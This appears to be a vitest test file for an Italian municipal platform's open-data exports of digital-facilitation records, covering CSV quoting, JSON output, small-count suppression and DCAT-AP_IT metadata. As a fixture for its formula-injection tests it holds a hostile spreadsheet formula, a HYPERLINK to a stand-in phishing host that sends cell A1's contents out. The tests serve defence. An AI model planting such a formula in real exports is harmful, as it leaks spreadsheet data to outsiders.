import jsonld from 'jsonld';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { csvCell, semicolonCell, spreadsheetText } from '../../src/modules/facilitation/csv.js';
import { OPENDATA_COLUMNS, suppress } from '../../src/modules/facilitation/opendata.js';
import { OpenDataRowOut } from '../../src/modules/facilitation/schemas.js';
import { createVenue } from '../../src/modules/organisations/service.js';
import { createProgramme } from '../../src/modules/programmes/service.js';
import { createTestApp, DIALECTS, type TestApp } from '../helpers.js';
import { daysAgo, makeWorld, recordBody, type World } from './fixtures.js';

/** A `;`-separated file as its header and its rows keyed by it. */
function semicolonTable(csv: string): { header: string[]; rows: Record<string, string>[] } {
  const parsed = Papa.parse<string[]>(csv, { delimiter: ';', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  const [header, ...rows] = parsed.data;
  return { header, rows: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? '']))) };
}

/** A comma-separated file (the staff CSV) as rows keyed by its header. */
function commaTable(csv: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(csv, { delimiter: ',', header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** JSON-LD expansion with no network: the context is inline, anything else to load is a failure. */
const expand = (doc: unknown) =>
  jsonld.expand(
    doc as jsonld.JsonLdDocument,
    {
      documentLoader: async (url: string) => {
        throw new Error(`no document may be loaded (${url})`);
      },
      // Throws where a term or value would be dropped for not mapping to an IRI.
      safe: true,
    } as jsonld.Options.Expand,
  );

const DCAT = 'http://www.w3.org/ns/dcat#';
const DCT = 'http://purl.org/dc/terms/';
const DCATAPIT = 'http://dati.gov.it/onto/dcatapit#';
type Node = Record<string, unknown[]> & { '@id'?: string; '@type'?: string[] };
const first = (n: Node, p: string) => n[p]?.[0] as Node & { '@value'?: string };

describe('cells of the exports', () => {
  it('quotes open-data cells as the national service does: on ";", quotes and line breaks, not on commas', () => {
    expect(semicolonCell('Biblioteca, sala 2')).toBe('Biblioteca, sala 2');
    expect(semicolonCell('Sala; piano terra')).toBe('"Sala; piano terra"');
    expect(semicolonCell('la "Lazzerini"')).toBe('"la ""Lazzerini"""');
    expect(semicolonCell('riga\nriga')).toBe('"riga\nriga"');
    expect(semicolonCell('a\rb')).toBe('"a\rb"');
    // Apache Commons CSV also quotes a value starting with a character up to '#' or ending with a space.
    expect(semicolonCell(' spazio')).toBe('" spazio"');
    expect(semicolonCell('#1')).toBe('"#1"');
    expect(semicolonCell('fine ')).toBe('"fine "');
    expect(semicolonCell('')).toBe('');
    expect(semicolonCell(null)).toBe('');
    expect(semicolonCell(59100)).toBe('59100');
  });

  it('neutralises free text that a spreadsheet would run as a formula, and leaves the rest alone', () => {
    for (const v of ['=HYPERLINK("http://x.example","y")', '+39 055', '-1', '@evil', '\tx', '\rx']) {
      expect(spreadsheetText(v)).toBe(`'${v}`);
    }
    for (const v of ['Biblioteca Lazzerini', "L'Aquila", ' =x', '', '59100']) expect(spreadsheetText(v)).toBe(v);
    expect(spreadsheetText(null)).toBe('');
    // The national file's own cell rule is not changed.
    expect(csvCell('=1+1')).toBe('=1+1');
  });
});

describe.each(DIALECTS)('open data (%s)', (dialect) => {
  let t: TestApp;
  let w: World;
  let programme: string;
  let evilVenue: string;
  const HYPERLINK = '=HYPERLINK("http://phish.example/?q="&A1,"Dettagli")';

  beforeAll(async () => {
    t = await createTestApp(dialect);
    w = await makeWorld(t);
    programme = (
      await createProgramme(t.db, null, {
        organisation: w.org,
        name: 'Open data SCD',
        start: daysAgo(100),
        end: daysAgo(-100),
        nationalPolicy: 'SCD',
        nationalProgrammeCode: 'SCD-2024-017',
        nationalProjectId: '4521',
      })
    ).id;
    evilVenue = (await createVenue(t.db, w.org, { name: '@evil', address: 'Via Roma 1', municipality: '100005' })).id;
    // The second venue: a CAP of its own (none in its address) and a name on the national platform with a ";".
    await t.db.k
      .updateTable('venues')
      .set({ postal_code: '59100', national_name: 'Casa del Popolo; Narnali' })
      .where('id', '=', w.venue2)
      .execute();
    await t.db.k.updateTable('organisations').set({ ipa_code: 'c_g999' }).where('id', '=', w.org).execute();
    const post = async (venue: string, n: number, over: Record<string, unknown>, citizen: Record<string, unknown>) => {
      for (let i = 0; i < n; i++) {
        const res = await w.api.staff(
          'POST',
          '/api/v1/facilitations',
          recordBody(w, { programme, venue, date: daysAgo(0), ...over }, { fiscalCode: undefined, ...citizen }),
        );
        expect(res.statusCode, res.body).toBe(201);
      }
    };
    // Six at the first venue, five at the second (both published), two at @evil (under 5: no demographics).
    await post(w.venue, 6, { kinds: ['A'], competences: [1, 4, 13], services: ['A', 'B'] }, { ageBand: '30-54', gender: 'F' });
    await post(w.venue2, 5, { kinds: ['A', 'C'], competences: [9] }, { ageBand: '75+', gender: 'M' });
    await post(evilVenue, 2, { details: HYPERLINK }, { ageBand: '18-29', gender: 'NB' });
  });
  afterAll(() => t.close());

  const openDataCsv = async (query: string) => {
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/opendata/facilitations.csv?${query}` });
    expect(res.statusCode, res.body).toBe(200);
    return res.body;
  };

  it('writes the national open-data file: ";" between cells, its columns, ID from 1, its labels', async () => {
    const body = await openDataCsv(`programme=${programme}`);
    expect(body.split('\r\n')[0]).toBe(OPENDATA_COLUMNS.join(';'));
    expect(body.endsWith('\r\n')).toBe(true);
    const { header, rows } = semicolonTable(body);
    expect(header).toEqual([
      'ID',
      'FASCIA_DI_ETA',
      'GENERE',
      'OCCUPAZIONE',
      'TITOLO_DI_STUDIO',
      'SERVIZIO_ID',
      'NOME_SERVIZIO',
      'DATA_FRUIZIONE_SERVIZIO',
      'AMBITO_SERVIZI_PUBBLICI_DIGITALI',
      'TIPOLOGIA_SERVIZIO',
      'COMPETENZE_TRATTATE',
      'SEDE_ID',
      'NOME_SEDE',
      'REGIONE',
      'PROVINCIA',
      'COMUNE',
      'CAP',
      'INTERVENTO',
      'ID_PROGRAMMA',
      'ID_PROGETTO',
    ]);
    expect(rows.map((r) => r.ID)).toEqual(rows.map((_, i) => String(i + 1)));
    expect(rows).toHaveLength(13);
    for (const r of rows) {
      expect(r).toMatchObject({
        INTERVENTO: 'SCD',
        ID_PROGRAMMA: 'SCD-2024-017',
        ID_PROGETTO: '4521',
        DATA_FRUIZIONE_SERVIZIO: daysAgo(0),
      });
      expect(r.SERVIZIO_ID).toMatch(/^[0-9a-f]{16}$/);
    }

    const first = rows.filter((r) => r.NOME_SEDE === 'Biblioteca Lazzerini');
    expect(first).toHaveLength(6);
    const { national_id } = await t.db.k.selectFrom('venues').select('national_id').where('id', '=', w.venue).executeTakeFirstOrThrow();
    expect(first[0]).toMatchObject({
      SEDE_ID: national_id,
      FASCIA_DI_ETA: '30-54',
      GENERE: 'F',
      TITOLO_DI_STUDIO: 'Diploma di scuola superiore',
      OCCUPAZIONE: 'Persona ritirata dal lavoro / pensionato/a',
      NOME_SERVIZIO: 'Facilitazione individuale',
      TIPOLOGIA_SERVIZIO: 'Facilitazione individuale',
      AMBITO_SERVIZI_PUBBLICI_DIGITALI: 'App IO, Sistemi di pagamenti elettronici (pagoPA)',
      // The first-level areas of competences 1, 4 and 13, not the competences.
      COMPETENZE_TRATTATE:
        'Alfabetizzazione su informazioni e dati, Comunicazione e collaborazione, Risolvere i problemi tecnici (es.: software e hardware)',
      NOME_SEDE: 'Biblioteca Lazzerini',
      COMUNE: 'Prato',
      PROVINCIA: 'Prato',
      REGIONE: 'Toscana',
      // No CAP set: the one in the address.
      CAP: '59100',
    });

    const second = rows.filter((r) => r.NOME_SEDE === 'Casa del Popolo; Narnali');
    expect(second).toHaveLength(5);
    expect(second[0]).toMatchObject({
      FASCIA_DI_ETA: '75 e oltre',
      GENERE: 'M',
      TIPOLOGIA_SERVIZIO: 'Facilitazione individuale, Formazione in presenza',
      COMPETENZE_TRATTATE: 'Comunicazione e collaborazione',
      NOME_SEDE: 'Casa del Popolo; Narnali',
      CAP: '59100',
    });
    // The name with ";" is quoted, and only it.
    expect(body).toContain(';"Casa del Popolo; Narnali";');

    const small = rows.filter((r) => r.SEDE_ID === evilVenue);
    expect(small).toHaveLength(2);
    for (const r of small) {
      expect([r.FASCIA_DI_ETA, r.GENERE, r.OCCUPAZIONE, r.TITOLO_DI_STUDIO]).toEqual(['', '', '', '']);
      // A name that would run in a spreadsheet comes out as text; no CAP set nor in the address.
      expect(r).toMatchObject({ NOME_SEDE: "'@evil", CAP: '' });
    }

    // Nothing that identifies a person: no codice fiscale, no citizenship, no details, no internal programme id.
    expect(body).not.toMatch(/[A-Z]{6}\d{2}[A-Z]\d{2}[A-Z]\d{3}[A-Z]/);
    expect(body).not.toContain('Italiana');
    expect(body).not.toContain('HYPERLINK');
    expect(body).not.toContain(programme);
    expect(body).not.toContain(w.org);
  });

  it('gives the same rows as JSON with the same keys, text as typed', async () => {
    const csv = semicolonTable(await openDataCsv(`programme=${programme}`)).rows;
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/opendata/facilitations.json?programme=${programme}` });
    expect(res.statusCode).toBe(200);
    const json = res.json() as Record<string, string>[];
    // Streamed, so the answer check of the test suites cannot read it: checked against its declaration here.
    expect(z.array(OpenDataRowOut).safeParse(json).error).toBeUndefined();
    expect(json).toHaveLength(csv.length);
    for (const row of json) expect(Object.keys(row)).toEqual([...OPENDATA_COLUMNS]);
    expect(json.map((r) => r.ID)).toEqual(csv.map((r) => r.ID));
    const unguarded = (r: Record<string, string>) => ({ ...r, NOME_SEDE: r.NOME_SEDE.replace(/^'@/, '@') });
    expect(json).toEqual(csv.map(unguarded));
    expect(json.find((r) => r.SEDE_ID === evilVenue)?.NOME_SEDE).toBe('@evil');
  });

  it('leaves ID_PROGRAMMA and ID_PROGETTO empty when the programme has no national codes, and numbers each file from 1', async () => {
    const local = (
      await createProgramme(t.db, null, { organisation: w.org, name: 'Senza codici', start: daysAgo(100), end: daysAgo(-100) })
    ).id;
    for (let i = 0; i < 2; i++) {
      await w.api.staff('POST', '/api/v1/facilitations', recordBody(w, { programme: local, date: daysAgo(2) }, { fiscalCode: undefined }));
    }
    const { rows } = semicolonTable(await openDataCsv(`programme=${local}`));
    expect(rows.map((r) => [r.ID, r.INTERVENTO, r.ID_PROGRAMMA, r.ID_PROGETTO])).toEqual([
      ['1', 'RFD', '', ''],
      ['2', 'RFD', '', ''],
    ]);
    // A period without records: the header alone.
    expect(await openDataCsv(`programme=${local}&from=2001-01-01&to=2001-12-31`)).toBe(`${OPENDATA_COLUMNS.join(';')}\r\n`);
  });

  it('neutralises formulas in the staff CSV: details and names', async () => {
    const res = await w.api.staff(
      'GET',
      `/api/v1/programmes/${programme}/facilitations/export?from=${daysAgo(30)}&to=${daysAgo(0)}&format=csv`,
    );
    expect(res.statusCode, res.body).toBe(200);
    const rows = commaTable(res.body);
    const evil = rows.filter((r) => r.sede === "'@evil");
    expect(evil).toHaveLength(2);
    expect(evil[0].dettagli).toBe(`'${HYPERLINK}`);
    expect(rows.filter((r) => r.sede === 'Biblioteca Lazzerini')).toHaveLength(6);
    expect(rows.every((r) => !/^[=+\-@\t\r]/.test(r.dettagli) && !/^[=+\-@\t\r]/.test(r.sede))).toBe(true);
  });

  it('never shows a count under 5 in the published aggregates', async () => {
    expect(suppress([12, 3, 40])).toEqual([null, null, 40]);
    expect(suppress([12, 3, 4, 40])).toEqual([12, null, null, 40]);
    expect(suppress([0, 7, 9])).toEqual([null, 7, 9]);
    const aggregates = (
      await createProgramme(t.db, null, { organisation: w.org, name: 'Aggregati', start: daysAgo(100), end: daysAgo(-100) })
    ).id;
    for (const [kind, n] of [
      ['A', 7],
      ['B', 2],
      ['C', 6],
    ] as const) {
      for (let i = 0; i < n; i++)
        await w.api.staff(
          'POST',
          '/api/v1/facilitations',
          recordBody(w, { programme: aggregates, kinds: [kind], date: daysAgo(1) }, { fiscalCode: undefined }),
        );
    }
    const res = await t.app.inject({
      method: 'GET',
      url: `/api/v1/opendata/facilitations/summary.json?programme=${aggregates}&by=kind&from=${daysAgo(30)}`,
    });
    expect(res.statusCode, res.body).toBe(200);
    const s = res.json();
    expect(s.total.services).toBe(15);
    const byKind = Object.fromEntries(s.items.map((i: { key: string; services: number | null }) => [i.key, i.services]));
    // B (2) is hidden, and so is the next smallest, C (6), or B could be worked out from the total.
    expect(byKind).toEqual({ A: 7, B: null, C: null, D: null, E: null });
    for (const i of s.items) {
      for (const v of [i.services, i.citizens]) if (v !== null) expect(v).toBeGreaterThanOrEqual(5);
    }
  });

  it('describes a DCAT-AP_IT catalogue holding the dataset, published by the organisation with its IPA code', async () => {
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/opendata/facilitations?programme=${programme}` });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('application/ld+json');
    const doc = res.json();
    expect(doc['dct:publisher']['foaf:name']).toMatch(/Comune di Prato/);

    const [catalog] = (await expand(doc)) as Node[];
    expect(catalog['@type']).toEqual(expect.arrayContaining([`${DCATAPIT}Catalog`, `${DCAT}Catalog`]));
    const publisher = first(catalog, `${DCT}publisher`);
    expect(publisher['@type']).toEqual(expect.arrayContaining([`${DCATAPIT}Agent`]));
    expect(first(publisher, `${DCT}identifier`)['@value']).toBe('c_g999');

    const datasets = catalog[`${DCAT}dataset`] as Node[];
    expect(datasets).toHaveLength(1);
    const dataset = datasets[0];
    expect(dataset['@type']).toEqual(expect.arrayContaining([`${DCATAPIT}Dataset`, `${DCAT}Dataset`]));
    expect(first(dataset, `${DCT}identifier`)['@value']).toBe(`c_g999:facilitazioni:${programme}`);
    expect(first(first(dataset, `${DCT}rightsHolder`), `${DCT}identifier`)['@value']).toBe('c_g999');
    const distributions = dataset[`${DCAT}distribution`] as Node[];
    expect(distributions.map((d) => first(d, `${DCAT}mediaType`)['@id'])).toEqual([
      'http://www.iana.org/assignments/media-types/text/csv',
      'http://www.iana.org/assignments/media-types/application/json',
      'http://www.iana.org/assignments/media-types/application/json',
    ]);
    expect(distributions.map((d) => first(d, `${DCT}format`)['@id'])).toEqual([
      'http://publications.europa.eu/resource/authority/file-type/CSV',
      'http://publications.europa.eu/resource/authority/file-type/JSON',
      'http://publications.europa.eu/resource/authority/file-type/JSON',
    ]);
    expect(first(distributions[0], `${DCT}license`)['@id']).toBe('https://creativecommons.org/licenses/by/4.0/');
    expect(first(distributions[0], `${DCAT}downloadURL`)['@id']).toBe(
      `${t.config.baseUrl}/api/v1/opendata/facilitations.csv?programme=${programme}`,
    );
  });

  it('describes the open data of programmes of several organisations as published by the platform, without an identifier', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/v1/opendata/facilitations' });
    expect(res.statusCode).toBe(200);
    const [catalog] = (await expand(res.json())) as Node[];
    expect(catalog['@type']).toEqual(expect.arrayContaining([`${DCATAPIT}Catalog`]));
    const publisher = first(catalog, `${DCT}publisher`);
    expect(publisher['@id']).toBe(t.config.baseUrl);
    expect(publisher[`${DCT}identifier`]).toBeUndefined();
    const dataset = first(catalog, `${DCAT}dataset`);
    expect(first(dataset, `${DCT}identifier`)['@value']).toBe('ponte:facilitazioni');
  });

  it('refuses the description of a programme that does not exist', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/v1/opendata/facilitations?programme=00000000-0000-7000-8000-000000000000' });
    expect(res.statusCode).toBe(404);
  });
});
